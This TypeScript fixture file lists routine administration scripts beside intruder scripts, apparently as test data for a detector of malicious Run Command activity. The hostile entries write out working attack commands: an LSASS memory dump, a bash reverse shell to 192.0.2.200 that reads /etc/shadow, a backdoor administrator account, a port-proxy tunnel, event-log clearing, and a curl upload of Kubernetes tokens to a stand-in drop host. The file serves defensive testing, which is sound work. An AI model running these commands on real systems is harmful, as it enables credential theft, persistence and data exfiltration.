/** A program that a script starts: file name, folder with its last separator, command line. */
export type Program = readonly [fileName: string, folder: string, commandLine: string]

export interface Script {
  readonly os: 'Windows' | 'Linux'
  /** For people: what the script does. */
  readonly name: string
  /** Bytes. */
  readonly size: number
  /** Cmdlets and functions that Defender reports as PowerShellCommand; none on Linux. */
  readonly commands: readonly string[]
  readonly programs: readonly Program[]
  /** What Run Command passes to the script. */
  readonly parameters?: string
}

const SYSTEM32 = 'C:\\Windows\\System32\\'
const BIN = '/usr/bin/'

const windows = (
  name: string,
  size: number,
  commands: readonly string[],
  programs: readonly Program[] = [],
): Script => ({
  os: 'Windows',
  name,
  size,
  commands,
  programs,
})

const linux = (name: string, size: number, ...commandLines: readonly string[]): Script => ({
  os: 'Linux',
  name,
  size,
  commands: [],
  programs: commandLines.map((line) => [line.split(' ')[0] ?? '', BIN, line] as const),
})

/** What the company runs again and again. */
export const ROUTINE = {
  patchWindows: windows(
    'install updates',
    3184,
    [
      'Install-Module',
      'Import-Module',
      'Update-SessionConfiguration',
      'Get-WindowsUpdate',
      'Install-WindowsUpdate',
      'Write-Output',
    ],
    [['usoclient.exe', SYSTEM32, 'UsoClient.exe StartScan']],
  ),
  patchLinux: linux('install updates', 1210, 'apt-get update -q', 'apt-get -y upgrade', 'needrestart -r a'),
  backupSql: windows(
    'quiesce databases before the backup',
    2260,
    ['Import-Module', 'Get-Service', 'Invoke-Sqlcmd', 'Start-Sleep', 'Write-EventLog'],
    [['vssadmin.exe', SYSTEM32, 'vssadmin.exe list writers']],
  ),
  backupLinux: linux(
    'dump databases before the backup',
    1734,
    'pg_dump -Fc inventory',
    'gzip -9 inventory.dump',
    'logger backup done',
  ),
  configureMorning: windows('deploy configuration 2026.10', 5120, [
    'Set-ItemProperty',
    'New-Item',
    'Test-Path',
    'Restart-Service',
    'Write-Output',
  ]),
  configureAfternoon: windows('deploy configuration 2026.10, hotfix', 5236, [
    'Set-ItemProperty',
    'New-Item',
    'Test-Path',
    'Restart-Service',
    'Write-Output',
  ]),
  configureLinux: linux(
    'deploy configuration 2026.10',
    2410,
    'install -m 0644 app.conf',
    'systemctl reload nginx',
    'curl -fsS http://localhost/health',
  ),
  complianceWindows: windows(
    'compliance check',
    4418,
    ['Import-Module', 'Invoke-DscResource', 'Test-Compliance', 'Get-LocalGroupMember', 'ConvertTo-Json', 'Out-File'],
    [
      ['auditpol.exe', SYSTEM32, 'auditpol.exe /get /category:*'],
      ['secedit.exe', SYSTEM32, 'secedit.exe /export /cfg C:\\Windows\\Temp\\policy.inf'],
    ],
  ),
  complianceLinux: linux(
    'compliance check',
    2018,
    'oscap xccdf eval --profile cis',
    'grep PermitRootLogin /etc/ssh/sshd_config',
  ),
  collectLogsWindows: windows('collect event logs', 2931, [
    'Get-WinEvent',
    'Get-EventLog',
    'Get-Counter',
    'Export-Csv',
    'Compress-Archive',
  ]),
  collectLogsLinux: linux(
    'collect logs',
    980,
    'journalctl --since yesterday',
    'tar -czf /var/tmp/logs.tgz /var/log/syslog',
  ),
  portalIpConfiguration: windows(
    'IPConfig of the portal',
    412,
    ['Get-NetIPConfiguration', 'Format-List'],
    [['ipconfig.exe', SYSTEM32, 'ipconfig.exe /all']],
  ),
  portalRemoteDesktop: windows('RDPSettings of the portal', 873, ['Get-ItemProperty', 'Get-Service', 'Format-Table']),
  portalDiskSpace: linux('disk space', 142, 'df -h', 'du -sh /var'),
} as const satisfies Readonly<Record<string, Script>>

/** What the intruders run. Addresses and domains lead nowhere. */
export const HOSTILE = {
  dumpCredentials: windows(
    'dump the memory of LSASS',
    1877,
    [
      'New-Item',
      'Get-Process',
      'Invoke-WebRequest',
      'Start-Process',
      'Compress-Archive',
      'Invoke-RestMethod',
      'Remove-Item',
    ],
    [
      [
        'rundll32.exe',
        SYSTEM32,
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.bin full',
      ],
      ['certutil.exe', SYSTEM32, 'certutil.exe -hashfile C:\\Windows\\Temp\\d.bin SHA256'],
    ],
  ),
  beacon: windows(
    'install a beacon as a scheduled task',
    1333,
    ['Invoke-WebRequest', 'Register-ScheduledTask', 'New-ScheduledTaskAction', 'New-ScheduledTaskTrigger'],
    [['schtasks.exe', SYSTEM32, 'schtasks.exe /query /tn Updater /v']],
  ),
  beaconForDatabases: windows(
    'install a beacon as a scheduled task, and list databases',
    1502,
    [
      'Invoke-WebRequest',
      'Register-ScheduledTask',
      'New-ScheduledTaskAction',
      'New-ScheduledTaskTrigger',
      'Invoke-Sqlcmd',
    ],
    [
      [
        'sqlcmd.exe',
        'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\',
        'sqlcmd.exe -Q "select name from sys.databases"',
      ],
    ],
  ),
  reverseShell: linux(
    'reverse shell',
    118,
    'bash -c "bash -i >& /dev/tcp/192.0.2.200/4444 0>&1"',
    'id',
    'cat /etc/shadow',
  ),
  localAdministrator: windows(
    'add a local administrator',
    164,
    [],
    [
      ['net.exe', SYSTEM32, 'net.exe user svc_update Winter-2026! /add'],
      ['net.exe', SYSTEM32, 'net.exe localgroup administrators svc_update /add'],
    ],
  ),
  tunnel: windows(
    'open a tunnel to the outside',
    2095,
    ['Invoke-WebRequest', 'Expand-Archive', 'New-Service', 'Start-Service', 'New-NetFirewallRule'],
    [
      [
        'netsh.exe',
        SYSTEM32,
        'netsh.exe interface portproxy add v4tov4 listenport=8443 connectaddress=192.0.2.201 connectport=443',
      ],
    ],
  ),
  payrollExport: windows(
    'export the payroll',
    3006,
    ['Invoke-Sqlcmd', 'Export-Csv', 'Compress-Archive', 'Invoke-RestMethod', 'Clear-EventLog'],
    [['wevtutil.exe', SYSTEM32, 'wevtutil.exe cl Security']],
  ),
  // The cmdlets of the routine log collection, in a script of another size: hashing the cmdlets alone takes it for routine.
  copyOfLogCollection: windows('send the security log outside', 3377, [
    'Get-WinEvent',
    'Get-EventLog',
    'Get-Counter',
    'Export-Csv',
    'Compress-Archive',
  ]),
  steal: linux(
    'read the service account tokens',
    640,
    'find /var/lib/kubelet/pods -name token',
    'curl -s -T /tmp/t.tgz https://drop.fabrikam.com/u',
    'rm -f /tmp/t.tgz',
  ),
} as const satisfies Readonly<Record<string, Script>>

/** Legitimate and yet alone of its kind: the false positive that documentation warns of. */
export const ONE_OFF: Script = windows('find out why the spooler hangs', 702, [
  'Get-Service',
  'Get-WinEvent',
  'Stop-Service',
  'Start-Service',
  'Get-Printer',
])
